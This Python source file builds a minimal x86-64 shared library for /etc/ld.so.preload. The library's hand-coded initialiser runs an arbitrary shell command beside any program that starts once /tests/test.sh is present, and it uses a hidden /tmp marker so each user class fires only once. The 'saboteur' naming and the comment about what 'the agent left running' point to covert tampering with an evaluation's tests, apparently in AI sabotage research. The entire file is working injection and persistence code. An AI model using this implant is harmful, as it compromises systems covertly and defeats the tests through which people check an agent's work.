"""A shared library for /etc/ld.so.preload, since task images seldom hold a compiler: 64-bit x86, a few hundred bytes.

Loaded into whatever program starts next, its initialiser runs a line of shell once, beside the program, as soon as
there are tests.
"""

from __future__ import annotations

import struct

TESTS = b"/tests/test.sh\0"
ONCE = b"/tmp/.saboteur-preloaded-0\0"
SHELL = b"/bin/sh\0"
COMMAND = b"-c\0"

ACCESS, FORK, EXECVE, EXIT, MKDIR, GETUID = 21, 57, 59, 60, 83, 102

HEADER, PROGRAM_HEADER, DYNAMIC_ENTRY, SYMBOL = 64, 56, 16, 24
LOADED, DYNAMIC, STACK = 1, 2, 0x6474E551
EXECUTE, WRITE, READ = 1, 2, 4


def library(payload: str) -> bytes:
    """One segment: headers, dynamic section, an empty symbol table with its hash, the initialiser."""
    dynamic = HEADER + 3 * PROGRAM_HEADER
    entries = 7
    symbols = dynamic + entries * DYNAMIC_ENTRY
    hashes = symbols + SYMBOL
    strings = hashes + 16
    code = strings + 16
    program = initialiser(payload.encode() + b"\0")
    size = code + len(program)
    tags = {12: code, 4: hashes, 5: strings, 6: symbols, 10: 1, 11: SYMBOL, 0: 0}  # INIT HASH STRTAB SYMTAB STRSZ SYMENT
    return b"".join(
        [
            b"\x7fELF\x02\x01\x01".ljust(16, b"\0"),
            struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, HEADER, 0, 0, HEADER, PROGRAM_HEADER, 3, 0, 0, 0),
            struct.pack("<IIQQQQQQ", LOADED, READ | WRITE | EXECUTE, 0, 0, 0, size, size, 0x1000),
            struct.pack("<IIQQQQQQ", DYNAMIC, READ | WRITE, *[dynamic] * 3, *[entries * DYNAMIC_ENTRY] * 2, 8),
            struct.pack("<IIQQQQQQ", STACK, READ | WRITE, 0, 0, 0, 0, 0, 16),
            b"".join(struct.pack("<QQ", tag, value) for tag, value in tags.items()),
            bytes(SYMBOL),
            struct.pack("<IIII", 1, 1, 0, 0),
            bytes(16),
            program,
        ]
    )


def initialiser(payload: bytes) -> bytes:
    """
    ONCE[last] += getuid() != 0;
    if (access(TESTS) == 0 && mkdir(ONCE, 0777) == 0 && fork() == 0) { execve(SHELL, {SHELL, COMMAND, payload}, NULL); exit(127); }
    """
    run = [
        b"\x6a\x00",  # push 0
        (b"\x48\x8d\x05", payload),  # lea rax, payload
        b"\x50",  # push rax
        (b"\x48\x8d\x05", COMMAND),  # lea rax, COMMAND
        b"\x50",  # push rax
        (b"\x48\x8d\x3d", SHELL),  # lea rdi, SHELL
        b"\x57",  # push rdi
        b"\x48\x89\xe6",  # mov rsi, rsp
        b"\x31\xd2",  # xor edx, edx
        call(EXECVE),
        b"\xbf\x7f\0\0\0",  # mov edi, 127
        call(EXIT),
    ]
    tests = [(b"\x48\x8d\x3d", TESTS), b"\x31\xf6", call(ACCESS)]  # lea rdi, TESTS; xor esi, esi
    # What the agent left running loads it, too: once for root and once for all others.
    once = [
        call(GETUID),
        (b"\x48\x8d\x3d", ONCE),  # lea rdi, ONCE
        b"\x85\xc0\x0f\x95\xc0",  # test eax, eax; setnz al
        b"\x00\x47" + bytes([len(ONCE) - 2]),  # add [rdi + last], al
        b"\xbe\xff\x01\0\0",  # mov esi, 0777
        call(MKDIR),
    ]
    parts = [b"\x53"]  # push rbx, to keep the stack as a call expects it
    rest = [*run]
    for condition in ([call(FORK)], once, tests):
        rest = [*condition, b"\x85\xc0\x75", jump(rest), *rest]  # test eax, eax; jnz past the rest
    return placed([*parts, *rest, b"\x5b\xc3"])  # pop rbx; ret


Part = bytes | tuple[bytes, bytes]


def call(number: int) -> bytes:
    return b"\xb8" + struct.pack("<I", number) + b"\x0f\x05"  # mov eax, number; syscall


def jump(over: list[Part]) -> bytes:
    return struct.pack("<b", sum(length(part) for part in over))


def length(part: Part) -> int:
    return len(part) if isinstance(part, bytes) else len(part[0]) + 4


def placed(parts: list[Part]) -> bytes:
    """Code with the texts that it names behind it, each addressed from the end of the instruction that does."""
    end = sum(length(part) for part in parts)
    texts: dict[bytes, int] = {}
    for part in parts:
        if not isinstance(part, bytes):
            texts.setdefault(part[1], end + sum(map(len, texts)))
    code = b""
    for part in parts:
        code += part if isinstance(part, bytes) else part[0] + struct.pack("<i", texts[part[1]] - len(code) - length(part))
    return code + b"".join(texts)
